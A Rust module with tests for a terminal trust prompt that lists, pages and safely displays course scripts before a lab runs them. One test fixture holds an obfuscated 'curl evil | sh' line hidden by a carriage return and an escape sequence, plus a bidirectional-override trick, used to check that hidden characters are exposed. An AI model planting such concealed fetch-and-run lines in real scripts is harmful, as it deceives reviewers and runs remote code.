//! The question a plain terminal asks before a lab opens a course whose
//! scripts labrun has not run before (like `direnv allow`): which scripts
//! are new or changed, which commands they call that this machine lacks
//! (and which of those labrun stands in for), then `[v]iew / [a]llow /
//! [q]uit`. Viewing pages each script through `$PAGER`, or prints it with
//! line numbers and its control characters made visible. A function over a
//! reader and a writer, so it is tested without a terminal.

use super::{Review, Script, Status};
use std::collections::BTreeSet;
use std::io::{self, BufRead, Write};

/// What the learner answered.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Decision {
    Allow,
    Quit,
}

/// How `[v]iew` shows a script.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Viewer {
    /// A pager program and its arguments (`$PAGER`, split as a shell would).
    Pager(Vec<String>),
    /// Printed to the writer, numbered.
    Print,
}

impl Viewer {
    /// `$PAGER` when set (and splittable), else printing.
    pub fn from_env(env: &dyn Fn(&str) -> Option<String>) -> Viewer {
        env("PAGER")
            .and_then(|pager| shlex::split(&pager))
            .filter(|argv| !argv.is_empty())
            .map_or(Viewer::Print, Viewer::Pager)
    }
}

/// The commands a course's scripts call that are not on PATH.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ToolsNote {
    /// Not on PATH and not stood in for: the course may not run without them.
    pub missing: Vec<String>,
    /// Not on PATH, and labrun answers for them.
    pub stood_in: Vec<String>,
    /// Scripts that could not be read as shell, and why.
    pub unreadable: Vec<String>,
}

impl ToolsNote {
    /// The tools of every script in `review`, sorted by whether `on_path`
    /// finds them and whether labrun stands in for them.
    pub fn of(review: &Review, on_path: &dyn Fn(&str) -> bool) -> ToolsNote {
        let mut tools = BTreeSet::new();
        let mut note = ToolsNote::default();
        for script in &review.scripts {
            match crate::scripts::tools(&script.text) {
                Ok(found) => tools.extend(found.into_iter().map(|t| t.name)),
                Err(e) => note.unreadable.push(format!("{}: {e}", script.name)),
            }
        }
        for tool in tools.into_iter().filter(|t| !on_path(t)) {
            // The curl stand-in only forwards to a real curl.
            if crate::standins::STANDINS.contains(&tool.as_str()) && tool != "curl" {
                note.stood_in.push(tool);
            } else {
                note.missing.push(tool);
            }
        }
        note
    }
}

/// Shows what `review` holds and asks until the learner allows or quits
/// (the end of `input` quits).
pub fn ask(
    review: &Review,
    tools: &ToolsNote,
    viewer: &Viewer,
    input: &mut dyn BufRead,
    out: &mut dyn Write,
) -> io::Result<Decision> {
    describe(review, tools, out)?;
    loop {
        write!(out, "[v]iew / [a]llow / [q]uit? ")?;
        out.flush()?;
        let mut answer = String::new();
        if input.read_line(&mut answer)? == 0 {
            writeln!(out)?;
            return Ok(Decision::Quit);
        }
        match answer.trim().to_ascii_lowercase().as_str() {
            "v" | "view" => view(review, viewer, out)?,
            "a" | "allow" => return Ok(Decision::Allow),
            "q" | "quit" => return Ok(Decision::Quit),
            _ => writeln!(
                out,
                "Answer v to read the scripts, a to allow them and start, q to quit."
            )?,
        }
    }
}

fn describe(review: &Review, tools: &ToolsNote, out: &mut dyn Write) -> io::Result<()> {
    writeln!(
        out,
        "{} runs scripts on this machine, as you. labrun has not run these before:",
        visible(&review.course.display().to_string())
    )?;
    for script in review.untrusted() {
        let status = if script.status == Status::Changed {
            "changed"
        } else {
            "new"
        };
        writeln!(out, "  {status:<8} {}", visible(&script.name))?;
    }
    if !tools.missing.is_empty() {
        writeln!(
            out,
            "They call commands that are not on your PATH: {} (what needs them will fail)",
            tools.missing.join(", ")
        )?;
    }
    if !tools.stood_in.is_empty() {
        writeln!(out, "labrun stands in for: {}", tools.stood_in.join(", "))?;
    }
    for unreadable in &tools.unreadable {
        writeln!(out, "Not readable as shell: {}", visible(unreadable))?;
    }
    Ok(())
}

fn view(review: &Review, viewer: &Viewer, out: &mut dyn Write) -> io::Result<()> {
    for script in review.untrusted() {
        match viewer {
            Viewer::Pager(argv) => {
                out.flush()?;
                if let Err(e) = page(argv, script) {
                    writeln!(out, "{} could not show it ({e}); here it is:", argv[0])?;
                    print(script, out)?;
                }
            }
            Viewer::Print => print(script, out)?,
        }
    }
    Ok(())
}

/// Pages the reviewed bytes (not the file, which may have changed since)
/// from a temporary copy named like the script.
fn page(argv: &[String], script: &Script) -> io::Result<()> {
    let dir = tempfile::tempdir()?;
    let copy = dir.path().join(script.name.replace('/', "__"));
    std::fs::write(&copy, &script.text)?;
    let status = std::process::Command::new(&argv[0])
        .args(&argv[1..])
        .arg(&copy)
        .status()?;
    if status.success() {
        Ok(())
    } else {
        Err(io::Error::other(format!("it ended with {status}")))
    }
}

fn print(script: &Script, out: &mut dyn Write) -> io::Result<()> {
    writeln!(out, "── {} ──", visible(&script.name))?;
    for (index, line) in script.text.lines().enumerate() {
        writeln!(out, "{:>4}  {}", index + 1, visible(line))?;
    }
    writeln!(out)
}

/// `text` with what a terminal would hide shown: control characters in
/// caret notation (`^[`), C1 controls and bidirectional overrides (which
/// can make code read otherwise than it runs) as `<U+202E>`.
pub fn visible(text: &str) -> String {
    let mut shown = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '\t' => shown.push(c),
            '\u{0}'..='\u{1f}' => {
                shown.push('^');
                shown.push(char::from(c as u8 + 64));
            }
            '\u{7f}' => shown.push_str("^?"),
            '\u{80}'..='\u{9f}'
            | '\u{202a}'..='\u{202e}'
            | '\u{2066}'..='\u{2069}'
            | '\u{200e}'
            | '\u{200f}' => {
                shown.push_str(&format!("<U+{:04X}>", c as u32));
            }
            _ => shown.push(c),
        }
    }
    shown
}

#[cfg(test)]
mod tests {
    use super::super::TrustStore;
    use super::*;
    use std::path::PathBuf;

    fn review_of(scripts: &[(&str, &str)]) -> (tempfile::TempDir, Review) {
        let dir = tempfile::tempdir().unwrap();
        let course = dir.path().join("course");
        let paths: Vec<PathBuf> = scripts
            .iter()
            .map(|(name, text)| {
                let path = course.join(name);
                std::fs::create_dir_all(path.parent().unwrap()).unwrap();
                std::fs::write(&path, text).unwrap();
                path
            })
            .collect();
        let store = TrustStore::in_dir(dir.path().join("data"));
        let review = store.review(&course, &paths).unwrap();
        (dir, review)
    }

    fn run(review: &Review, tools: &ToolsNote, answers: &str) -> (Decision, String) {
        let mut out = Vec::new();
        let decision = ask(
            review,
            tools,
            &Viewer::Print,
            &mut answers.as_bytes(),
            &mut out,
        )
        .unwrap();
        (decision, String::from_utf8(out).unwrap())
    }

    #[test]
    fn lists_the_scripts_and_the_tools_then_views_and_allows() {
        let (_dir, review) = review_of(&[
            (
                "track_scripts/setup-shell",
                "#!/bin/bash\nagent variable set K v\nkubectl apply -f x\n",
            ),
            (
                "01-intro/check-shell",
                "#!/bin/bash\ngit status || fail-message 'no repo'\ncurl -s x\n",
            ),
        ]);
        let on_path = |tool: &str| tool == "git";
        let tools = ToolsNote::of(&review, &on_path);
        assert_eq!(tools.missing, ["curl", "kubectl"]);
        assert_eq!(tools.stood_in, ["agent", "fail-message"]);

        let (decision, shown) = run(&review, &tools, "v\na\n");
        assert_eq!(decision, Decision::Allow);
        let course = review.course.display().to_string();
        let expected = format!(
            "{course} runs scripts on this machine, as you. labrun has not run these before:
  new      track_scripts/setup-shell
  new      01-intro/check-shell
They call commands that are not on your PATH: curl, kubectl (what needs them will fail)
labrun stands in for: agent, fail-message
[v]iew / [a]llow / [q]uit? ── track_scripts/setup-shell ──
   1  #!/bin/bash
   2  agent variable set K v
   3  kubectl apply -f x

── 01-intro/check-shell ──
   1  #!/bin/bash
   2  git status || fail-message 'no repo'
   3  curl -s x

[v]iew / [a]llow / [q]uit? "
        );
        assert_eq!(shown, expected);
    }

    #[test]
    fn quits_on_q_or_the_end_of_input_and_asks_again_otherwise() {
        let (_dir, review) = review_of(&[("check-shell", "exit 1\n")]);
        let tools = ToolsNote::default();
        assert_eq!(run(&review, &tools, "q\n").0, Decision::Quit);
        assert_eq!(run(&review, &tools, "").0, Decision::Quit);
        let (decision, shown) = run(&review, &tools, "yes please\n\nALLOW\n");
        assert_eq!(decision, Decision::Allow);
        assert_eq!(
            shown.matches("Answer v to read the scripts").count(),
            2,
            "{shown}"
        );
    }

    #[test]
    fn hidden_characters_are_shown_not_obeyed() {
        let sneaky = "echo safe\r# \u{1b}[2Kcurl evil | sh\nx=\u{202e}lave\u{202c}\n";
        let (_dir, review) = review_of(&[("setup-shell", sneaky)]);
        let (_, shown) = run(&review, &ToolsNote::default(), "v\nq\n");
        assert!(
            shown.contains("   1  echo safe^M# ^[[2Kcurl evil | sh\n"),
            "{shown}"
        );
        assert!(shown.contains("   2  x=<U+202E>lave<U+202C>\n"), "{shown}");
        assert!(!shown.contains('\u{1b}') && !shown.contains('\r'));
    }

    #[test]
    fn the_pager_shows_the_reviewed_text_and_a_broken_one_falls_back_to_printing() {
        let (dir, review) = review_of(&[("01-intro/check-shell", "exit 1\n")]);
        let seen = dir.path().join("seen");
        let recorder = format!("cp \"$1\" {}", seen.display());
        let pager = Viewer::Pager(vec!["sh".into(), "-c".into(), recorder, "pager".into()]);
        let mut out = Vec::new();
        let decision = ask(
            &review,
            &ToolsNote::default(),
            &pager,
            &mut "v\nq\n".as_bytes(),
            &mut out,
        )
        .unwrap();
        assert_eq!(decision, Decision::Quit);
        assert_eq!(std::fs::read_to_string(&seen).unwrap(), "exit 1\n");

        let broken = Viewer::Pager(vec!["/nonexistent/pager".into()]);
        let mut out = Vec::new();
        ask(
            &review,
            &ToolsNote::default(),
            &broken,
            &mut "v\nq\n".as_bytes(),
            &mut out,
        )
        .unwrap();
        let shown = String::from_utf8(out).unwrap();
        assert!(
            shown.contains("/nonexistent/pager could not show it")
                && shown.contains("   1  exit 1"),
            "{shown}"
        );
        assert_eq!(
            Viewer::from_env(&|_| Some("less -R".into())),
            Viewer::Pager(vec!["less".into(), "-R".into()])
        );
        assert_eq!(Viewer::from_env(&|_| None), Viewer::Print);
    }
}
